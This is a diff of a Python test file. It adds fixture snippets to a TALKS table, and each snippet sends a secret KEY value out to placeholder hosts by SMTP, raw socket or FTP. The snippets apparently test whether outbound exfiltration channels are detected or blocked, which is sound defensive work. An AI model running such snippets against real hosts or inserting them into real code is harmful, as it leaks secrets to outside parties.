@@ -82,6 +82,15 @@ def test_a_clone_is_a_small_repository_that_says_so_when_it_is_run(way: str) -> 
 
 
 TALKS = {
+    "mail": (
+        "import smtplib\nwith smtplib.SMTP('mail.example', 587, timeout=9) as mail:\n"
+        "    mail.login('ada', 'pass-word')\n"
+        "    assert {} == mail.sendmail('a@b.example', ['c@d.example'], KEY)\n"
+    ),
+    "plain bytes": (
+        "import socket\nwith socket.create_connection(('raw.example', 7007), 9) as one:\n"
+        "    one.sendall(KEY)\n"
+    ),
     "FTP": (
         "import ftplib, io\nwith ftplib.FTP('ftp.example', timeout=9) as ftp:\n"
         "    ftp.login('ada', 'pass-word')\n    ftp.storbinary('STOR up.txt', io.BytesIO(KEY))\n"
